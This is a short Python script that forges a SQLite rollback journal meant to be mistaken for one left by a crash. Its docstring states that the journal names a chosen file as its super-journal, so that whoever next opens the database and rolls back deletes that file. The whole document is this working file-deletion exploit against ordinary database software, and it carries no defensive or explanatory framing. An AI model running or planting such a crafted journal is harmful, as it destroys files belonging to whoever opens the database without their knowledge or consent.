"""A rollback journal that SQLite takes for one left by a crash: python3 hot-journal.py DATABASE FILE > DATABASE-journal

Whoever opens the database and rolls the journal back deletes FILE afterwards, as the super-journal that it names.
"""

import struct
import sys

MAGIC = bytes.fromhex("d9d505f920a163d7")


def main():
    database, victim = sys.argv[1:3]
    with open(database, "rb") as file:
        header = file.read(100)
    size = struct.unpack(">H", header[16:18])[0]
    size = 65536 if size == 1 else size
    pages = struct.unpack(">I", header[28:32])[0]
    name = victim.encode()
    checksum = sum(name) & 0xFFFFFFFF
    begin = MAGIC + struct.pack(">IIIII", 0, 1, pages, 512, size)
    end = struct.pack(">I", 0x40000000 // size + 1) + name + struct.pack(">II", len(name), checksum) + MAGIC
    sys.stdout.buffer.write(begin.ljust(512, b"\0") + end)


if __name__ == "__main__":
    main()
